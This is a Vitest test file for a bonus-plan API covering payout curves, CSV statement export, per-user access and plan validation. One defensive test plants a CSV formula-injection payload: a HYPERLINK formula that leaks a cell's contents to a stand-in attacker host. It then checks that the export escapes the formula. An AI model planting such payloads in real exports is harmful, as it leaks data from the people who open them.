import { parse } from 'csv-parse/sync';
import { beforeEach, expect, it } from 'vitest';
import type { BonusPlan, BonusStatements, PutBonusPlanBody } from '../../../contract/bonus.ts';
import { describeEachDialect } from '../../testing/databases.ts';
import { addUser, createTestApp, createTestContext, signIn, type TestContext } from '../../testing/world.ts';
import type { App } from '../shared/http.ts';

const cli = { kind: 'cli' } as const;

describeEachDialect('the joint bonus', (getDatabase) => {
  let context: TestContext;
  let app: App;
  let director: string;
  let marketer: { id: string; email: string };
  let daan: { id: string; email: string };
  let emma: { id: string; email: string };

  beforeEach(async () => {
    context = createTestContext(getDatabase());
    context.clock.set('2027-01-05T09:00:00.000Z');
    app = await createTestApp(context);
    director = (await addUser(context, 'director')).email;
    marketer = await addUser(context, 'marketing', { name: 'Fenna' });
    daan = await addUser(context, 'sales_rep', { name: 'Daan' });
    emma = await addUser(context, 'sales_rep', { name: 'Emma' });
    return () => app.close();
  });
  const call = async (method: 'GET' | 'PUT' | 'PATCH', url: string, email = director, payload?: object) =>
    app.inject({
      method,
      url: `/api/v1${url}`,
      headers: { cookie: await signIn(app, email) },
      ...(payload && { payload }),
    });

  /** A deal of the owner's won on the day given. */
  const win = async (ownerId: string, amountMinor: number, on: string) => {
    context.clock.set(`${on}T10:00:00.000Z`);
    const deal = await context.services.opportunities.create(cli, {
      name: `Deal ${amountMinor}`,
      ownerId,
      amountMinor,
    });
    await context.services.opportunities.move(cli, deal.id, { stage: 'won' });
  };

  /** Q1: €1,000,000 of bookings planned; €50,000 at plan, 30% to Marketing; Daan's own bookings. */
  const plan = (): PutBonusPlanBody => ({
    name: 'Joint bonus Q1',
    periodKind: 'quarter',
    periodStart: '2027-01',
    metric: 'bookings',
    plan: 100_000_000,
    currency: 'EUR',
    poolAtPlan: 5_000_000,
    marketingSharePct: 30,
    curve: { thresholdPct: 70, thresholdPayoutPct: 50, acceleratorRate: 2, capPct: 200 },
    participants: [
      { userId: marketer.id, side: 'marketing', weight: 1 },
      {
        userId: daan.id,
        side: 'sales',
        weight: 1,
        components: [
          {
            key: 'own',
            label: 'Own bookings',
            amountAtPlan: 1_000_000,
            target: 60_000_000,
            source: 'own_bookings',
          },
        ],
      },
      { userId: emma.id, side: 'sales', weight: 1 },
    ],
  });

  const statements = async (id: string, email = director) =>
    (await call('GET', `/bonus-plans/${id}/statements`, email)).json<BonusStatements>();
  const sum = (s: BonusStatements) => s.statements.reduce((a, st) => a + st.total, 0);

  it('pays by the curve at the threshold, at plan and in the accelerator, and the statements add up to the total', async () => {
    const saved = await call('PUT', '/bonus-plans', director, plan());
    expect(saved.statusCode).toBe(200);
    const id = saved.json<BonusPlan>().id;

    // At the threshold: €700,000 booked (Daan €420,000, Emma €280,000).
    await win(daan.id, 42_000_000, '2027-01-20');
    await win(emma.id, 28_000_000, '2027-02-10');
    const atThreshold = await statements(id);
    expect(atThreshold).toMatchObject({
      actual: 70_000_000,
      band: 'to_plan',
      payoutPct: 50,
      sharedPayout: 2_500_000,
    });
    expect(atThreshold.marketingAmount).toBe(750_000);
    const daanLine = atThreshold.statements.find((s) => s.userId === daan.id)!;
    // Daan's own €420,000 of €600,000 is exactly 70%: half of his €10,000 component.
    expect(daanLine).toMatchObject({
      shared: { payout: 875_000 },
      components: [{ actual: 42_000_000, payout: 500_000 }],
    });
    expect(daanLine.total).toBe(1_375_000);
    expect(sum(atThreshold)).toBe(atThreshold.total);
    expect(atThreshold.total).toBe(2_500_000 + 500_000);

    // At plan.
    await win(emma.id, 30_000_000, '2027-03-01');
    const atPlan = await statements(id);
    expect(atPlan).toMatchObject({ actual: 100_000_000, payoutPct: 100, sharedPayout: 5_000_000 });
    expect(sum(atPlan)).toBe(atPlan.total);

    // 120% of plan pays 140% of the pool.
    await win(daan.id, 20_000_000, '2027-03-20');
    const above = await statements(id);
    expect(above).toMatchObject({ band: 'accelerated', sharedPayout: 7_000_000, marketingAmount: 2_100_000 });
    expect(above.statements.find((s) => s.userId === marketer.id)!.total).toBe(2_100_000);
    expect(sum(above)).toBe(above.total);

    // A deal won after the quarter does not count.
    await win(daan.id, 50_000_000, '2027-04-02');
    expect((await statements(id)).actual).toBe(120_000_000);
  });

  it('shows a person only their own statement, and exports the statements as CSV', async () => {
    const id = (await call('PUT', '/bonus-plans', director, plan())).json<BonusPlan>().id;
    await win(daan.id, 60_000_000, '2027-01-20');
    const own = await statements(id, emma.email);
    expect(own.statements.map((s) => s.name)).toEqual(['Emma']);

    const csv = await call('GET', `/bonus-plans/${id}/statements.csv`);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    const rows = parse<Record<string, string>>(csv.body, { columns: true });
    expect(rows.find((r) => r.person === 'Daan' && r.line === 'Own bookings')).toMatchObject({
      actual: '60000000',
      attainment_pct: '100.00',
      payout_EUR_minor: '1000000',
    });
    const totals = rows.filter((r) => r.line === 'total').map((r) => Number(r.payout_EUR_minor));
    expect(totals.reduce((a, b) => a + b, 0)).toBe((await statements(id)).total);
  });

  it('writes a name that looks like a formula into the CSV as text, never as a live formula', async () => {
    // A rep names themselves with a formula; the director opens the statements in a spreadsheet.
    const name = '=HYPERLINK("http://evil.example/?"&A1,"Bonus")';
    const rep = await call('PATCH', '/me', emma.email, { name });
    expect(rep.statusCode).toBe(200);
    const id = (await call('PUT', '/bonus-plans', director, plan())).json<BonusPlan>().id;
    const csv = (await call('GET', `/bonus-plans/${id}/statements.csv`)).body;
    const rows = parse<Record<string, string>>(csv, { columns: true });
    expect(rows.map((r) => r.person)).toContain(`'${name}`);
    expect(rows.some((r) => Object.values(r).some((cell) => /^[=+\-@\t\r]/.test(cell)))).toBe(false);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it('refuses a plan with a person twice or a manual component without its actual', async () => {
    const twice = plan();
    twice.participants.push({ userId: emma.id, side: 'marketing', weight: 1 });
    expect((await call('PUT', '/bonus-plans', director, twice)).json()).toMatchObject({
      errors: [{ field: 'body.participants.3.userId', reason: 'is in the plan twice' }],
    });
    const manual = plan();
    manual.participants[0]!.components = [
      { key: 'mql', label: 'MQLs', amountAtPlan: 100, target: 500, source: 'manual' },
    ];
    expect((await call('PUT', '/bonus-plans', director, manual)).json()).toMatchObject({
      errors: [{ field: 'body.participants.0.components.0.actual' }],
    });
    expect((await call('PUT', '/bonus-plans', marketer.email, plan())).statusCode).toBe(403);
  });
});
